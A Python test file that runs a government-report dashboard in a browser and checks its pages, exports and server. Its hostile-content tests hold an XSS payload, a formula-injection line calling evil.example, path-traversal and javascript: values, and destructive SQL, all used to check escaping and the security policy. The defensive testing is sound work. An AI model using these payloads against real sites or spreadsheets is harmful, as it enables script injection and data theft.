"""The dashboard in a real browser, and what it is built of."""

import csv
import gzip
import hashlib
import re
import threading
from contextlib import contextmanager
from importlib.resources import files
from io import StringIO
from pathlib import Path
from random import Random

import pytest
import yaml
from typer.testing import CliRunner

from docs.make.cookbook import gold, questions, samples
from expectations.rules import load_rules
from flows.cli import app
from tests.browser import drawn, grave_violations, visit
from transform.corrections import Correction
from warehouse.dashboard import Server, build
from warehouse.dashboard.pages import PAGES, policy, texts
from warehouse.lake.errors import StoreError
from warehouse.lake.store import Lake
from warehouse.query import query

_CORRECTED = "FROM cell WHERE report_id = '3d0a14e53ceda6d7' AND indicator_code = 'rev_corrected'"
HONGZE = "report.html#at=320813/2023&id=3d0a14e53ceda6d7"
RULES = {code: (rule.title.zh, rule.title.en) for code, rule in load_rules().items()}


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """The store of data/samples."""
    return samples(tmp_path_factory.mktemp("dashboard") / "store")


@pytest.fixture(scope="module")
def site(store):
    """Its site."""
    return build(store, store / "dashboard", RULES).folder


@contextmanager
def serving(folder, watched, rebuild=lambda: None):
    """A server of a folder, for as long as the block lasts."""
    server = Server(folder, watched, rebuild, folder / "corrections")
    thread = threading.Thread(target=server.serve)
    thread.start()
    yield server.address
    server.shutdown()
    thread.join()


@pytest.fixture(scope="module")
def address(store, site):
    """The site from a local web server."""
    with serving(site, Lake(store).warehouse) as address:
        yield address


@pytest.fixture(scope="module")
def unplaced(small, tmp_path_factory):
    """A store with two versions of a report, and reports whose agency or year is unknown; and its site."""
    store = type(small)(tmp_path_factory.mktemp("unplaced") / "store")
    store.add("a", agency="320813000000", year=2023)
    store.add("b", agency="320813000000", year=2023, verdict="flagged", published=2)
    store.add("c", agency="110115000000", year=2022, verdict="flagged")
    for letter, agency, name, year in (
        ("d", None, "某局", 2023), ("e", None, "某局", None), ("f", "320813000000", "320813", None)
    ):  # fmt: skip
        store.add(letter, agency=agency, agency_name=name, year=year, verdict="quarantined", reason="unknown")
    store.commit()
    store.build()
    return store.path, build(store.path, store.path.parent / "site", RULES).folder


def column(page, table, number):
    """The texts of a column of a table."""
    return page.locator(f"#table-{table} tbody tr > :nth-child({number})").all_inner_texts()


def table(page, name):
    """The texts of a table, row by row."""
    cells = "rows => rows.map(row => [...row.querySelectorAll('th, td')].map(cell => cell.innerText))"
    return page.locator(f"#table-{name} tbody tr").evaluate_all(cells)


def figure(text):
    """A figure as shown, as SQL prints it."""
    return text.replace(",", "").replace("−", "-")


# -- what it is built of ----------------------------------------------------------------------------------------


def test_libraries_are_those_published():
    """The libraries shipped are the files the manifest names, and every one of them is named there."""
    folder = files("warehouse.dashboard") / "vendor"
    manifest = yaml.safe_load((folder / "manifest.yaml").read_text("utf-8"))
    shipped = {f.name for f in folder.iterdir() if f.name.endswith((".js", ".gz"))}
    assert shipped == set(manifest)
    for name, entry in manifest.items():
        data = (folder / name).read_bytes()
        data = gzip.decompress(data) if name.endswith(".gz") else data
        assert hashlib.sha256(data).hexdigest() == entry["sha256"], name


def test_every_word_of_the_pages_is_in_both_languages():
    """What a script asks of the texts by a fixed key is there."""
    known = texts()
    scripts = [
        f.read_text("utf-8") for f in (files("warehouse.dashboard") / "static").iterdir() if f.name[-3:] == ".js"
    ]
    asked = {key for script in scripts for key in re.findall(r"""\bt\("([a-z_.]+)"[,)]""", script)}
    assert len(asked) > 100
    for key in asked:
        found = known
        for part in key.split("."):
            found = found[part]
        assert len(found) == 2, key


def test_pages_run_nothing_but_files_of_the_site(site):
    """No page holds a script, a style or a handler of its own, and none names another site."""
    for name in PAGES:
        html = (site / f"{name}.html").read_text("utf-8")
        assert not re.search(r"<style|\son\w+=|style=|https?:|//|<script(?! src=)", html.replace("<!DOCTYPE", "")), name
        assert f'content="{policy(name)}"'.replace("'", "&#x27;") in html
        assert "unsafe-inline" not in policy(name)
        assert "'unsafe-eval'" not in policy(name)


def test_a_folder_with_something_else_is_left_alone(store, tmp_path):
    """Only an empty folder or an older site is replaced."""
    (tmp_path / "mine.txt").write_text("kept")
    with pytest.raises(StoreError, match="no dashboard"):
        build(store, tmp_path, RULES)
    assert [file.name for file in tmp_path.iterdir()] == ["mine.txt"]
    with pytest.raises(StoreError, match="no warehouse"):
        build(tmp_path / "none", tmp_path / "site", RULES)


def test_built_again_it_is_the_same(store, site, tmp_path):
    """Equal warehouses give equal sites, but for bits Arrow leaves open where a value is null."""
    (tmp_path / ".site.4194305.tmp" / "data").mkdir(parents=True)  # as of a build that was killed
    other = build(store, tmp_path / "site", RULES).folder
    assert [file.name for file in tmp_path.iterdir()] == ["site"]
    again = build(store, other, RULES).folder
    for file in site.rglob("*"):
        if file.is_file() and not str(file.relative_to(site)).startswith("data/ask"):
            assert (again / file.relative_to(site)).read_bytes() == file.read_bytes(), file


def test_the_command_builds_it_beside_the_warehouse(store, tmp_path):
    """`gongkai dashboard` says what it built and where; a store without a warehouse is wrong usage."""
    done = CliRunner().invoke(app, ["dashboard", "--store", str(store), "--to", str(tmp_path / "site")])
    assert done.exit_code == 0, done.output
    assert f"open {tmp_path / 'site' / 'index.html'}" in done.output
    assert (tmp_path / "site" / "data" / "report" / "320813" / "2023.js").is_file()
    assert CliRunner().invoke(app, ["dashboard", "--store", str(tmp_path / "none")]).exit_code == 2


def test_no_agency_names_a_file(small, tmp_path):
    """What an agency is called by never becomes part of a path; its report is there all the same."""
    store = type(small)(tmp_path / "store")
    for letter, agency in (("a", "../../../evil"), ("b", "'\";x/y"), ("c", None)):
        store.add(letter, agency=agency, cells=[("requests", "req_new", "total", "3", 3)])
    store.commit()
    store.build()
    site = build(store.path, tmp_path / "site", RULES).folder
    assert [file.name for file in (site / "data" / "report").iterdir()] == ["none"]
    shard = (site / "data" / "report" / "none" / "2023.js").read_text("utf-8")
    assert all(f'"{letter * 16}":' in shard for letter in "abc")
    assert sorted(file.name for file in tmp_path.iterdir()) == ["site", "store"]


# -- every page -------------------------------------------------------------------------------------------------

_VIEWS = (
    *(f"{name}.html" for name in PAGES),
    f"{HONGZE}&cell=rev_corrected",
    "rule.html#code=R3-ROW",
    "rule.html#code=word_for_number",
    "agency.html#a=320813000000",
    "search.html#q=hongze",
    "coverage.html#p=32&state=flagged&year=2023",
    "coverage.html#state=missing&year=all",
    "reports.html#run=samples",
    "runs.html#outcome=not_a_report",
    "quality.html#run=samples",
    "rule.html#code=R3-ROW&run=samples",
    "compare.html#list=ranking&year=2023&p=32",
    "coverage.html#p=32&f=淮安市&c=洪泽区&s=320813",
)
VIEWS = [(view.partition(".")[0], view) for view in _VIEWS]


@pytest.mark.drawn("name")
@pytest.mark.parametrize(("name", "view"), VIEWS)
def test_a_page_opens_from_its_folder(page, site, name, view):
    """From a folder: Chinese text, English after the switch, nothing wider than the screen."""
    visit(page, f"{site.as_uri()}/{view}")
    assert texts()["pages"][name][0] in page.inner_text("h1")
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    assert len(re.findall(r"[\u4e00-\u9fff]", page.inner_text("main"))) > 20
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 900})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.click("#language")
    page.wait_for_selector("html[lang=en]")
    assert texts()["pages"][name][1] in drawn(page).inner_text("h1")
    assert "lang=en" in page.url
    links = page.locator("nav a").evaluate_all("links => links.map(link => link.href)")
    assert all("lang=en" in link for link in links)


@pytest.mark.drawn("name", "scheme")
@pytest.mark.parametrize(("name", "view"), VIEWS)
@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 390)])
def test_a_page_is_accessible(browser, address, scheme, width, name, view):
    """Axe finds no serious violation, in light and dark, on a large screen and a small one."""
    context = browser.new_context(bypass_csp=True, color_scheme=scheme, viewport={"width": width, "height": 900})
    page = visit(context.new_page(), address + view)
    found = grave_violations(page)
    context.close()
    assert not found


def test_links_carry_the_state(page, address):
    """What was chosen stands in the address, and an address shows what was chosen."""
    visit(page, f"{address}quality.html")
    page.select_option("#choose-year", "2023")
    page.wait_for_url("**#*year=2023*")
    drawn(page)
    page.wait_for_selector("#table-worst tbody tr:only-child")
    before = table(page, "worst")
    assert [row[1] for row in before] == ["2023"]
    visit(page, page.url)
    assert table(page, "worst") == before
    assert page.input_value("#choose-year") == "2023"


def test_light_and_dark_can_be_switched(page, address):
    """The choice holds for the next page."""
    visit(page, f"{address}runs.html")
    light = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.click("#theme")
    page.wait_for_selector("html[data-theme=dark]")
    visit(page, f"{address}quality.html")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != light


# -- coverage, quality, compare, runs ---------------------------------------------------------------------------


def test_coverage_leads_from_the_country_to_a_report(page, store, address):
    """Province, prefecture, county, agency, report: at every step the figures of the view."""
    visit(page, f"{address}coverage.html")
    for name, condition in (
        ("江苏省", "province IS NOT NULL AND prefecture IS NULL"),
        ("淮安市", "province = '江苏省' AND prefecture <> '' AND county IS NULL"),
        ("洪泽区", "prefecture = '淮安市' AND county <> ''"),
    ):
        sql = f"""
            SELECT coalesce(county, prefecture, province), expected::VARCHAR, received::VARCHAR, passed::VARCHAR,
                flagged::VARCHAR, quarantined::VARCHAR, missing::VARCHAR, late::VARCHAR
            FROM coverage_region WHERE agency_level IS NULL AND report_year = 2023 AND {condition}"""
        expected = sorted(list(row.values()) for row in query(store, sql).to_pylist())
        assert sorted(row[:8] for row in table(page, "coverage")) == expected
        page.click(f"#heat th a:text-is('{name}')")
        page.wait_for_selector(f".crumbs [aria-current]:text-is('{name}')")
    page.click("#heat td.flagged a")
    page.wait_for_url("**/report.html*")
    assert "洪泽区人民政府 · 2023" in drawn(page).inner_text("h1")


def test_coverage_by_level(page, store, address):
    """A level chosen leaves its agencies."""
    visit(page, f"{address}coverage.html")
    page.select_option("#choose-level", "4")
    page.wait_for_url("**#*level=4*")
    page.wait_for_selector("#heat tbody tr:nth-child(2)")
    rows = query(
        store,
        "SELECT province FROM coverage_region WHERE agency_level = 4 AND province IS NOT NULL AND prefecture IS NULL "
        "AND report_year = 2023 ORDER BY 1",
    ).to_pylist()
    assert sorted(page.locator("#heat tbody th").all_inner_texts()) == [row["province"] for row in rows]


def test_provinces_stand_in_the_order_of_their_codes(page, address):
    """As every table of the statistics has them."""
    visit(page, f"{address}coverage.html")
    assert page.locator("#heat tbody th").all_inner_texts() == ["北京市", "天津市", "上海市", "江苏省"]


def counts_by_verdict(store):
    """Passed, flagged, quarantined and all reports of a store, by SQL."""
    sql = """
        SELECT verdict, count(*) AS reports FROM report GROUP BY verdict"""
    found = {row["verdict"]: row["reports"] for row in query(store, sql).to_pylist()}
    return [str(found.get(name, 0)) for name in ("pass", "flagged", "quarantined")] + [str(sum(found.values()))]


@pytest.mark.parametrize("view", ["index", "coverage", "quality"])
def test_counts_of_the_whole_store_agree_with_sql(page, unplaced, view):
    """Reports of nobody and of no year are counted, and a link leads to them."""
    store, site = unplaced
    visit(page, f"{site.as_uri()}/{view}.html")
    *parts, total = table(page, "store")
    assert total[1:] == counts_by_verdict(store) == ["1", "2", "3", "6"]
    assert [str(sum(int(row[n]) for row in parts)) for n in range(1, 5)] == total[1:]
    assert {row[0]: row[4] for row in parts} == {
        "计入报送情况": "2", "同机关同年的其他版本或范围": "1", "机关或年度不明": "3"
    }  # fmt: skip
    page.click("#table-store a:has-text('不明')")
    page.wait_for_selector("#table-readings")
    assert sorted(column(page, "readings", 1)) == ["320813", "某局", "某局"]
    page.click("#table-readings tbody tr:first-child a")
    page.wait_for_selector(".report-head")


def test_today_leads_to_what_is_to_be_done(page, store, address):
    """Tiles are links with the figures of SQL; a cause leads to its place on the worklist."""
    visit(page, address)
    sql = """
        SELECT (SELECT count(*) FROM report) AS arrived,
            (SELECT count(*) FROM agency_year WHERE state = 'missing') AS missing,
            (SELECT count(*) FROM report WHERE verdict = 'quarantined' OR verdict = 'flagged' AND is_current) AS wrong,
            (SELECT max(settles) FROM cause) AS first"""
    expected = [str(value) for value in query(store, sql).to_pylist()[0].values()]
    assert page.locator(".cards >> nth=0").locator("a b").all_inner_texts() == expected
    causes = query(store, "FROM cause ORDER BY settles DESC, reports DESC, kind, what").to_pylist()
    assert column(page, "causes", 3) == [str(row["settles"]) for row in causes]
    assert column(page, "causes", 4) == [str(row["reports"]) for row in causes]
    assert all((row["zh"] or row["what"]) in text for row, text in zip(causes, column(page, "causes", 1), strict=True))
    assert table(page, "history")[0][1:4] == counts_by_verdict(store)[:3]
    page.click("#table-causes tbody tr:first-child a")
    page.wait_for_selector("#detail[aria-busy=false]")
    shown = page.get_attribute("#detail", "data-doubt").split(" ")
    assert shown[1:3] == [causes[0]["kind"], causes[0]["what"]]


def test_quality_shows_rules_worst_reports_and_suggestions(page, store, address):
    """Figures of the views; a suggestion leads to its cell; a filter leaves what it names."""
    visit(page, f"{address}quality.html")
    sql = "SELECT check_code, places FROM rule_outcome WHERE report_year IS NULL AND province IS NULL"
    expected = sorted((row["check_code"], str(row["places"])) for row in query(store, sql).to_pylist())
    shown = [*table(page, "statutory"), *table(page, "heuristic")]
    assert sorted((row[0].split()[0], row[3]) for row in shown) == expected
    page.fill("#filter-suggestions", "洪泽")
    assert len(table(page, "suggestions")) == 1
    page.click("#table-suggestions tbody a")
    page.wait_for_selector(".form td.chosen")
    assert page.inner_text(".form td.chosen") == "0"
    assert "建议" in page.inner_text("#provenance")


def test_a_table_sorts_and_is_saved(page, address):
    """A click on a head sorts by it; the CSV has the rows as shown, with a byte order mark for Excel."""
    visit(page, f"{address}quality.html")
    page.click("#table-statutory th:nth-child(4) button")
    shown = [int(text) for text in column(page, "statutory", 4)]
    assert shown == sorted(shown, reverse=True)
    assert page.get_attribute("#table-statutory th:nth-child(4)", "aria-sort") == "descending"
    with page.expect_download() as download:
        page.click("#table-statutory .csv")
    text = Path(download.value.path()).read_text("utf-8")
    assert text.startswith("\ufeff规则,")
    lines = list(csv.reader(StringIO(text[1:])))
    assert [int(line[3]) for line in lines[1:]] == shown


def test_compare_shows_chosen_agencies(page, store, address):
    """Agencies are found by name; trends, outcomes, reviews and ranks are those of the views."""
    visit(page, f"{address}compare.html#a=320813000000")
    page.click(".chooser summary")
    page.fill("#find", "礼贤")
    page.click("#found button")
    page.wait_for_selector(".chips li:nth-child(2)")
    drawn(page)
    page.wait_for_selector("#chart-trend canvas")
    ids = "('320813000000', '110115106000')"
    sql = f"SELECT agency_name, value FROM year_on_year WHERE series_code = 'req_new' AND agency_id IN {ids}"
    expected = sorted((row["agency_name"], f"{row['value'].normalize():f}") for row in query(store, sql).to_pylist())
    assert sorted((row[0], figure(row[3])) for row in table(page, "series")) == expected
    page.select_option("#choose-series", "licence_decisions")
    page.wait_for_url("**series=licence_decisions*")
    page.wait_for_selector("h2:has-text('行政许可')")
    assert ["江苏省淮安市洪泽区人民政府", "550"] in [[row[0], figure(row[3])] for row in table(page, "series")]
    sql = f"SELECT agency_name, rev_corrected FROM review_outcomes WHERE agency_id IN {ids}"
    expected = sorted((row["agency_name"], f"{row['rev_corrected']:.0f}") for row in query(store, sql).to_pylist())
    assert sorted((row[0], row[5]) for row in table(page, "review")) == expected
    assert {row[0] for row in table(page, "ranks")} == {name for name, _ in expected}
    page.click(".chips button >> nth=0")
    page.wait_for_selector(".chips li:only-child")


def test_runs_are_the_ledger(page, store, address):
    """The ledger and the files that are no report."""
    visit(page, f"{address}runs.html")
    assert column(page, "ledger", 1) == [row["run_id"] for row in query(store, "FROM run").to_pylist()]
    refused = query(store, "FROM document WHERE outcome = 'not_a_report'").to_pylist()
    assert column(page, "refused", 1) == [row["source_name"] for row in refused]
    visit(page, f"{address}runs.html#lang=en")
    assert column(page, "refused", 3) == [row["reason"] for row in refused]


# -- the report -------------------------------------------------------------------------------------------------


def test_a_report_beside_its_source(page, store, address):
    """A cell leads to its provenance and its place in the source, by mouse, by keyboard and by its address."""
    visit(page, f"{address}{HONGZE}")
    assert page.locator(".form").count() == 6
    page.click('[data-cell="rev_corrected"]')
    page.wait_for_selector(".document .marked")
    row = query(store, _CORRECTED).to_pylist()[0]
    assert page.inner_text(".document .marked") == row["printed"] == page.inner_text(".form td.chosen")
    assert page.get_attribute(".document .marked", "title") == row["place"]
    told = page.inner_text("#provenance")
    for fact in ("source_name", "document_sha256", "printed", "place"):
        assert row[fact] in told
    assert "cell=rev_corrected" in page.url
    assert page.locator('.cell.fail [data-cell="rev_upheld"]').count() == 0  # the suggestion explains the sum
    assert page.locator('.cell.suggested [data-cell="rev_total"]').count() == 1
    page.press('[data-cell="rev_corrected"]', "ArrowLeft")
    assert page.inner_text(".document .marked") == "10"
    page.hover('[data-cell="fee_amount_10k"]')
    assert "7730.28" in page.inner_text("#provenance")
    visit(page, f"{address}{HONGZE}&cell=req_new/natural")
    page.wait_for_selector(".document .marked")
    assert page.inner_text(".form td.chosen") == "21"


def test_findings_lead_to_their_cells_and_to_a_decision(page, store, address):
    """Findings stand first, each with a button to its cells; a cell gives the entry a reviewer keeps."""
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visit(page, f"{address}{HONGZE}")
    assert page.locator("section h2").all_inner_texts()[0] == "发现的问题"
    page.click(".checks li:has-text('review/rev_total') .to-cells")
    page.wait_for_selector(".form td.chosen.framed")
    assert page.get_attribute(".form td.chosen button", "data-cell") == "rev_total"
    page.click("#copy")
    page.wait_for_selector("#correction:visible")
    assert page.evaluate("navigator.clipboard.readText()") == page.inner_text("#correction")
    (entry,) = yaml.safe_load(page.inner_text("#correction"))
    row = query(store, _CORRECTED.replace("rev_corrected", "rev_total")).to_pylist()[0]
    assert entry["cell"] == f"{row['table_key']}/rev_total"
    assert (entry["expect"], entry["value"]) == (row["printed"], row["suggested_value"])
    Correction.model_validate({**entry, "where": "a.yml", "reason": "seen", "reviewer": "Li"})


def test_english_heads_leave_room_for_the_total(page, address):
    """On a common screen the requests table shows its last column."""
    visit(page, f"{address}{HONGZE}&lang=en")
    tables = page.locator(".tables .scroll").evaluate_all("all => all.map(one => one.scrollWidth - one.clientWidth)")
    assert max(tables) <= 0


def test_only_an_address_becomes_a_link(page, small, tmp_path):
    """The address a report was fetched from is a link; the name of a file is text."""
    store = type(small)(tmp_path / "store")
    names = {"a": "https://example.org/a.html", "b": "javascript:alert(1)", "c": "a.html"}
    for letter, name in names.items():
        store.add(letter, name, agency=f"32130000000{letter}", cells=[("requests", "req_new", "total", "3", 3)])
    store.commit()
    store.build()
    site = build(store.path, tmp_path / "site", RULES).folder
    for letter, links in ("a", [names["a"]]), ("b", []), ("c", []):
        visit(page, f"{site.as_uri()}/report.html#at=321300/2023&id={letter * 16}")
        assert names[letter] in page.inner_text(".report-head")
        found = page.locator(".report-head a[rel]").evaluate_all("all => all.map(one => one.getAttribute('href'))")
        assert found == links


def test_figures_on_the_screen_are_those_of_the_warehouse(page, store, address):
    """Fifty agencies, years and indicators by lot: printed text and value on the screen equal SQL."""
    facts = query(store, "FROM fact ORDER BY report_id, indicator_code, applicant_code").to_pylist()
    chosen = Random("dashboard").sample(facts, 50)
    for fact in sorted(chosen, key=lambda fact: fact["report_id"]):
        at = f"{fact['agency_id'][:6]}/{fact['report_year']}"
        cell = fact["indicator_code"] + (f"/{fact['applicant_code']}" if fact["applicant_code"] else "")
        page.goto(f"{address}report.html#at={at}&id={fact['report_id']}&cell={cell}")
        page.wait_for_selector(f'.form td.chosen [data-cell="{cell}"]')
        assert page.inner_text(".form td.chosen") == (fact["printed"] or "□")
        value = "—" if fact["value"] is None else f"{fact['value'].normalize():f} {fact['unit']}"
        told = dict(zip(*(page.locator(f"#provenance {tag}").all_inner_texts() for tag in ("dt", "dd")), strict=True))
        assert figure(told["数值"]) == value
        assert fact["agency_name"] in page.inner_text("h1")


@pytest.mark.parametrize("wanted", ["洪泽", "淮安洪泽", "洪泽 淮安", "320813", "洪泽区政府", "洪泽县"])
def test_an_agency_is_found_by_parts_of_its_name(page, address, wanted):
    """Parts in any order, parts run together, the code, and a former name."""
    visit(page, f"{address}report.html")
    page.fill("#find", wanted)
    assert [text.split()[0] for text in page.locator("#found a").all_inner_texts()] == ["江苏省淮安市洪泽区人民政府"]


def test_a_report_is_found_by_name(page, address):
    """From the search to the report."""
    visit(page, f"{address}report.html")
    page.fill("#find", "礼贤")
    page.click("#found a")
    page.click(".versions a")
    page.wait_for_selector(".form")
    assert "礼贤镇人民政府 · 2021" in page.inner_text("h1")


# -- questions --------------------------------------------------------------------------------------------------


def test_the_cookbook_is_answered_in_the_page(page, tmp_path, series):
    """Opened from its folder, without a server, the page answers every question as the cookbook does."""
    site = build(gold(tmp_path / "store"), tmp_path / "site", RULES).folder
    visit(page, f"{site.as_uri()}/ask.html")
    asked = list(questions())
    for number in series(len(asked)):
        title, _, printed = asked[number]
        page.select_option("#question", str(number + 1))
        page.wait_for_selector(f"#question option[value='{number + 1}']:checked", state="attached")
        drawn(page)
        page.click("#run")
        page.wait_for_selector("#status:not(.error):has-text('行，')")
        lines = [[cell.strip() for cell in line.strip("|").split("|")] for line in printed.split("\n")]
        shown = [
            [figure(cell).replace("true", "True").replace("false", "False") for cell in row]
            for row in table(page, "answer")
        ]
        assert shown == [[figure(cell) for cell in line] for line in lines[2:]], title


def test_questions_the_data_answer_come_first(page, store, address):
    """One of them is chosen from the start; those that find nothing stand apart."""
    visit(page, f"{address}ask.html")
    known = page.evaluate("gongkai.load('ask').then(({ questions }) => questions.map(({ sql, fits }) => [sql, fits]))")
    assert [(sql, bool(query(store, sql).num_rows)) for sql, _ in known] == [tuple(one) for one in known]
    fits = [fit for _, fit in known]
    assert True in fits
    assert False in fits
    apart = page.locator("#question optgroup option").evaluate_all("all => all.map(one => Number(one.value))")
    assert apart == [number for number, fit in enumerate(fits, start=1) if not fit]
    assert int(page.input_value("#question")) == fits.index(True) + 1


def test_a_question_of_ones_own(page, address):
    """An answer, its link, and what is said of nonsense, of other statements and of files elsewhere."""
    visit(page, f"{address}ask.html#sql=SELECT 41 %2B 1 AS n, '=1%2B1' AS formula")
    page.press("#sql", "Control+Enter")
    page.wait_for_selector("#table-answer")
    assert table(page, "answer") == [["42", "=1+1"]]
    with page.expect_download() as download:
        page.click("#table-answer .csv")
    assert Path(download.value.path()).read_bytes().decode() == "\ufeffn,formula\r\n42,'=1+1\r\n"
    for sql in ("SELECT nonsense", "DROP TABLE lake.cell", "SELECT 1; SELECT 2", "FROM 'https://example.org/x.csv'"):
        page.fill("#sql", sql)
        page.click("#run")
        page.wait_for_selector("#status.error")
        assert "不能回答" in page.inner_text("#status")


# -- hostile content --------------------------------------------------------------------------------------------

MARKUP = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>{b|x}'
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
LONG = "很长" * 3000


@pytest.fixture(scope="module")
def hostile(small, tmp_path_factory):
    """A site of reports whose names, prose and cells are made to do harm."""
    store = type(small)(tmp_path_factory.mktemp("hostile") / "store")
    prose, cell = MARKUP.replace("<", "&lt;"), FORMULA.replace('"', "&quot;")
    source = (
        f"<html><body><p>{prose}</p><table><tr><td>{cell}</td><td onclick='x()'>@1</td></tr></table>"
        "<script>pwned=3</script></body></html>"
    )
    digest = store.lake.originals.keep(source.encode())
    cells = [
        ("requests", "req_new", "total", MARKUP, "unparsed"),
        ("requests", "req_new", "natural", FORMULA, "unparsed"),
        ("requests", "req_carried_in", "total", LONG, "unparsed"),
    ]
    place = {"province": f"<b>省</b>{FORMULA}", "prefecture": "", "county": "", "agency_level": 1, "agency_type": "gov"}
    common = {"verdict": "flagged", "cells": cells, "checks": [("R3-ROW", "fail")], **place}
    named = {"agency": "990000000000", "agency_name": FORMULA, "title": MARKUP, "reason": LONG}
    store.add("a", name=f"{MARKUP}.html", issues=["x"], **named, **common)
    store.add("b", name="-1+1.html", agency="990000000000-乙", agency_name=MARKUP, reason="-12.5", **common)
    store.add("c", name="\tplain.html", agency="990000000000-丙", agency_name=LONG, reason="@sum", **common)
    for table_name in ("document", "report"):
        store.pending[table_name] = [
            {**row, "document_sha256": digest} if row["document_sha256"][0] == "a" else row
            for row in store.pending[table_name]
        ]
    store.pending["cell"] = [
        {**row, "grid": 1, "grid_row": 1, "grid_column": 1, "place": f"{MARKUP}"} for row in store.pending["cell"]
    ]
    store.commit()
    store.build()
    return build(store.path, store.path / "dashboard", {"R3-ROW": (MARKUP, MARKUP)}).folder


def test_hostile_content_is_shown_as_text(page, hostile, series):
    """Names, prose and cells with markup, scripts, formulas or a book of text are text, and break no page. By day a
    third of the pages.
    """
    report = f"report.html#at=990000/2023&id={'a' * 16}&cell=req_new/total"
    area = "index.html#p=99&f=/&c=/&s=990000"
    views = (
        *(f"{name}.html" for name in PAGES),
        area,
        "compare.html#a=990000000000,990000000000-乙,990000000000-丙",
    )
    for view in (*(views[number] for number in series(len(views), 3)), report):
        visit(page, f"{hostile.as_uri()}/{view}")
        page.wait_for_timeout(100)
        assert page.evaluate("window.pwned") is None, view
        assert page.locator("main img, main script, main b:text('省')").count() == 0, view
        for width in (1280, 390):
            page.set_viewport_size({"width": width, "height": 900})
            assert page.evaluate("document.documentElement.scrollWidth") <= width, (view, width)
    assert MARKUP in page.inner_text(".form td.chosen")
    assert MARKUP in page.inner_text(".report-head")
    assert page.inner_text(".document .marked") == FORMULA
    assert MARKUP.replace("&lt;", "<") in page.inner_text(".document")


def test_an_empty_warehouse_has_pages(page, small, tmp_path, series):
    """Before the first report there is a site, which says that there is nothing yet; by day a third of its pages."""
    store = type(small)(tmp_path / "store")
    store.build()
    site = build(store.path, tmp_path / "site", RULES).folder
    names = list(PAGES)
    for name in (names[number] for number in series(len(names), 3)):
        visit(page, f"{site.as_uri()}/{name}.html")
        assert page.locator(".error").count() == 0, name
        assert "没有" in page.inner_text("main") or name in ("ask", "rule", "search", "worklist"), name


def test_spreadsheets_get_no_formulas(page, hostile):
    """A text that begins like a formula gets an apostrophe; a plain negative number stays a number."""
    visit(page, f"{hostile.as_uri()}/quality.html")
    with page.expect_download() as download:
        page.click("#table-worst .csv")
    lines = list(csv.reader(StringIO(Path(download.value.path()).read_text("utf-8")[1:])))
    names = {line[0] for line in lines[1:]}
    assert names == {f"'{FORMULA}", MARKUP, LONG}
    assert {line[-1] for line in lines[1:]} == {LONG, "-12.5", "'@sum"}
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if re.match(r"\s*[=+@]|\s*-(?!\d+(\.\d+)?$)", cell)]


def test_the_policy_holds(page, browser, address):
    """A script that got into a page would not run, nor reach another site; the header says what the page says."""
    visit(page, address)
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            document.body.append(script);
        }"""
    )
    assert page.evaluate("window.pwned") is None
    blocked = page.evaluate("fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'blocked')")
    assert blocked == "blocked"
    assert page.wrong
    assert all("Content Security Policy" in text for text in page.wrong)
    page.wrong.clear()


# -- the local server -------------------------------------------------------------------------------------------


def test_the_server_shows_a_new_site_by_itself(page, store, site, tmp_path):
    """After the warehouse was replaced the site is built anew and open pages draw it."""
    watched = tmp_path / "warehouse"
    watched.write_text("1")
    built = []
    with serving(site, watched, lambda: built.append(1)) as address:
        visit(page, address)
        page.evaluate("window.old = true")
        (tmp_path / "new").write_text("2")
        (tmp_path / "new").replace(watched)
        page.wait_for_event("load", timeout=15_000)
        assert page.evaluate("window.old") is None
        page.goto("about:blank")
    assert built == [1]
